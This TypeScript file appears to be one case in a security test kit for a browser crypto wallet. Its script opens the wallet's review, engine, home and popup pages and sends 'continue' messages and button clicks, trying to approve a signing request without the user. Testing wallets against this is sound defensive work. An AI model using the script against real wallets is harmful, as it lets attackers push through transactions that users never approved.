import type { Attack } from './kit/attack.ts'

export default {
  family: 'review-window',
  how: 'Opens the review window itself, to speak to it and to press its buttons.',
  script: `
    ethereum.request(attack.sign)
    for (const path of ['/review.html', '/engine.html', '/home.html', '/popup.html']) {
      const view = open(attack.plainsign + path, '_blank', 'popup')
      for (let i = 0; i < 10; i++) {
        await attack.sleep(20)
        try { view.postMessage({ type: 'review.decide', choice: 'continue' }, '*') } catch {}
        try { view.document.querySelector('[data-testid=continue]').click() } catch {}
      }
    }
  `,
} satisfies Attack
